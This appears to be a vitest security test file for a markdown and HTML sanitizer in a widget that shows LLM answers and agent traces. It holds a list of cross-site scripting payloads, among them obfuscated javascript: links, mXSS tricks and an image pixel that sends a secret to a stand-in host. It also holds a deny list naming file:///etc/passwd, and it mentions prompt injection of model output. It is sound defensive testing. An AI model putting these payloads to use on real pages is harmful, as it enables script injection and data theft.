import { describe, expect, test } from "vitest";
import { createMarkdownRenderer } from "../markdown.js";
import { md } from "../md-render.js";
import { isPlainMarkup, plainMarkupToFragment } from "../plain-markup.js";
import { isSafeHref, sanitizeToFragment } from "../sanitize.js";
import { TraceView } from "../trace-view.js";
import { createView, attachStore } from "../widget.js";
import { createFakeModel, createManualFrames } from "./helpers.js";

// Payloads as an LLM (or a prompt injection) could write them.
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1) )",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/png;base64,iVBORw0KGgo=)",
  "![img](data:image/png;base64,iVBORw0KGgo=)",
  "![img](javascript:alert(1))",
  "![tracker](https://evil.example/pixel.png?secret=1)",
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math href=javascript:alert(1)>click</math>",
  "<!-- --><img src=x onerror=alert(1)> -->",
  "--><script>alert(1)</script><!--",
  '<a href="  jAvAsCrIpT:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<style>body{display:none}</style>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "<details open ontoggle=alert(1)>",
  "<a href=x onmouseover=alert(1)>hover</a>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "<https://ok.example/path> and [ok](https://ok.example) and [mail](mailto:a@b.c)",
  "[ref][r]\n\n[r]: javascript:alert(1)",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  // formulas: KaTeX runs with trust off, so no links, images, ids or raw HTML come out of TeX
  "$\\href{javascript:alert(1)}{click}$ and $$\\url{javascript:alert(1)}$$",
  "$<img src=x onerror=alert(1)>$ and \\(<script>alert(1)</script>\\)",
  "$\\includegraphics{https://evil.example/x.png}$ $\\htmlId{x}{y}$ $\\htmlStyle{color:red}{z}$",
  "$$\nx \\\\ </script><script>alert(1)</script>\n$$",
];

/** Assert nothing executable or dangerous is in the DOM under `root`. */
function assertSafe(root) {
  const bad = Array.from(root.querySelectorAll("script, iframe, object, embed, style, svg, math, form, img, link, meta, base, frame, frameset, image, use, foreignObject"))
    // KaTeX's own output (MathML for screen readers, SVG for some glyphs) is the only math / svg allowed
    .filter((e) => !(["svg", "math"].includes(e.tagName.toLowerCase()) && e.closest(".katex")));
  expect(bad.map((e) => e.outerHTML)).toEqual([]);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.toLowerCase().startsWith("on"), `${attr.name} on <${el.tagName}>`).toBe(false);
      expect(["srcdoc", "formaction", "xlink:href", "action", "src"]).not.toContain(attr.name.toLowerCase());
    }
  }
  for (const a of root.querySelectorAll("[href]")) {
    // eslint-disable-next-line no-control-regex
    const href = a.getAttribute("href").replace(/[\u0000-\u0020]/g, "").toLowerCase();
    expect(href.startsWith("javascript:") || href.startsWith("data:") || href.startsWith("vbscript:"), href).toBe(false);
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    expect(a.getAttribute("target")).toBe("_blank");
  }
}

describe("sanitizing", () => {
  test("isSafeHref", () => {
    for (const ok of ["https://a.b/c", "http://x", "mailto:a@b.c", "#frag", "/path", "rel/page.html?a=1:2"]) expect(isSafeHref(ok), ok).toBe(true);
    for (const bad of ["javascript:alert(1)", "  JAVASCRIPT:x", "java\nscript:x", "\u0000javascript:x", "vbscript:x", "data:text/html,x", "data:image/png;base64,x", "file:///etc/passwd", "javascript&colon;x", "%6Aavascript:x"])
      expect(isSafeHref(bad), bad).toBe(false);
  });

  test.each(PAYLOADS.map((p, i) => [i, p]))("payload %i as raw HTML through the sanitizer", (_i, payload) => {
    const div = document.createElement("div");
    div.append(sanitizeToFragment(payload));
    assertSafe(div);
  });

  test.each(PAYLOADS.map((p, i) => [i, p]))("payload %i as streamed answer text", (_i, payload) => {
    const el = document.createElement("div");
    const r = createMarkdownRenderer(el);
    for (let i = 0; i < payload.length; i += 3) {
      r.append(payload.slice(i, i + 3));
      assertSafe(el);
    }
    r.append("\n\nafter\n");
    r.finish();
    assertSafe(el);
  });

  // The live tail skips the sanitizer for markup it would return unchanged (plain-markup.js).
  const html = (frag) => {
    const div = document.createElement("div");
    div.append(frag);
    return div.innerHTML;
  };
  const rendered = (text) => {
    const env = {};
    const tokens = md.parse(text, env);
    return { tokens, markup: md.renderer.render(tokens, md.options, env) };
  };

  test.each(PAYLOADS.map((p, i) => [i, p]))("payload %i: the sanitizer is skipped only where it changes nothing", (_i, payload) => {
    for (const text of [payload, `${payload}\n\nmore *text*`, `- ${payload}\n- two`, `> ${payload}`]) {
      const { tokens, markup } = rendered(text);
      if (!isPlainMarkup(tokens)) continue;
      expect(html(plainMarkupToFragment(markup))).toBe(html(sanitizeToFragment(markup)));
      const div = document.createElement("div");
      div.append(plainMarkupToFragment(markup));
      assertSafe(div);
      expect(div.querySelector("a, [href], [style]")).toBeNull();
    }
  });

  test("plain markdown skips the sanitizer and comes out the same", () => {
    const texts = [
      "Just a paragraph with 12@1700000000 tokens\nand a soft break,  \nand a hard one.",
      "# Title\n\n## Sub *em* **strong** ~~gone~~ `code <b>`",
      "- one\n- two\n  - nested\n\n3. three\n4. four\n\n> quoted\n> text\n\n---\n",
      "    indented <code>\n\n```python\nx = 1 < 2 & 3\n```\n\n```\nno lang\n```\n\n```c++ extra\nint\n```",
      "<script>alert(1)</script> and <img src=x onerror=alert(1)> as text",
      "a & b < c > d \"e\" 'f' &amp; &lt;",
    ];
    for (const text of texts) {
      const { tokens, markup } = rendered(text);
      expect(isPlainMarkup(tokens), text).toBe(true);
      expect(html(plainMarkupToFragment(markup))).toBe(html(sanitizeToFragment(markup)));
    }
  });

  test("links, images, tables, formulas and odd fence languages take the sanitizer", () => {
    const texts = [
      "[a](https://x.example)", "see https://x.example now", "<https://x.example>", "![i](https://x.example/i.png)",
      "| a |\n|---|\n| b |", "$x^2$", "$$\nx\n$$", '```a"onmouseover=x\ny\n```', "```a&quot;b\ny\n```",
      "```py\\\"\ny\n```", "[r]\n\n[r]: https://x.example",
    ];
    for (const text of texts) expect(isPlainMarkup(rendered(text).tokens), text).toBe(false);
  });

  test("safe links keep working and open in a new tab", () => {
    const el = document.createElement("div");
    const r = createMarkdownRenderer(el);
    r.append(PAYLOADS[30]);
    r.finish();
    const hrefs = Array.from(el.querySelectorAll("a")).map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://ok.example/path", "https://ok.example", "mailto:a@b.c"]);
    assertSafe(el);
  });

  test("markdown images are links, never loaded", () => {
    const el = document.createElement("div");
    const r = createMarkdownRenderer(el);
    r.append("![chart](https://img.example/c.png) ![x](data:image/png;base64,AA)");
    r.finish();
    expect(el.querySelector("img")).toBeNull();
    const link = el.querySelector("a.lsw-img-link");
    expect(link.getAttribute("href")).toBe("https://img.example/c.png");
    expect(link.textContent).toBe("[image: chart]");
    expect(el.textContent).toContain("x"); // the data: image is reduced to its alt text
  });

  test("payloads in trace names, inputs, outputs, errors and text lines stay text (rows and details)", () => {
    const tree = new TraceView({ viewportHeight: 100_000 });
    document.body.append(tree.el);
    let seq = 0;
    const entries = [];
    PAYLOADS.forEach((p, i) => {
      const span = `s${i}`;
      entries.push({ v: 1, seq: ++seq, ts: i, event: "start", span, parent: null, name: p, kind: "tool", input: { q: p }, attrs: { arguments: p, model: p } });
      entries.push({ v: 1, seq: ++seq, ts: i + 0.5, event: "event", span, parent: null, name: p, kind: "tool", attrs: { p } });
      entries.push({ v: 1, seq: ++seq, ts: i + 1, event: "end", span, parent: null, name: p, kind: "tool", status: "error", output: p, error: { type: p, message: p, detail: p }, duration_ms: 1 });
      entries.push(p);
    });
    tree.addEntries(entries);
    tree.expandAll();
    while (tree.flush());
    assertSafe(tree.el);
    const names = Array.from(tree.el.querySelectorAll('.lsw-node:not([data-kind="text"]) .lsw-node-name')).map((n) => n.textContent);
    expect(names).toEqual(PAYLOADS);
    expect(tree.el.querySelectorAll('.lsw-node[data-kind="text"]').length).toBe(PAYLOADS.length);
    // every span's details: readable views and the raw JSON
    for (const node of [...tree.model.nodes.values()]) {
      tree.select(node);
      assertSafe(tree.detail);
      tree.el.querySelector(".lsw-raw-toggle")?.click();
      assertSafe(tree.detail);
    }
    assertSafe(tree.el);
    tree.el.remove();
  });

  test("payloads as query, thinking and error message of a run", () => {
    const model = createFakeModel();
    const { store, cleanup } = attachStore(model.proxy());
    const frames = createManualFrames();
    const el = document.createElement("div");
    const view = createView({ store, model: model.proxy(), el, raf: frames.raf, caf: frames.caf, immediate: false });
    const all = PAYLOADS.join("\n\n");
    model.setRuns([{ id: "x", query: all, status: "error", text: all, thinking: all, entries: [], error: { type: all, message: all, detail: all } }]);
    frames.run();
    assertSafe(el);
    expect(el.querySelector(".lsw-query").textContent).toBe(all);
    expect(el.querySelector(".lsw-thinking-text").textContent).toBe(all);
    view.destroy();
    cleanup();
  });
});
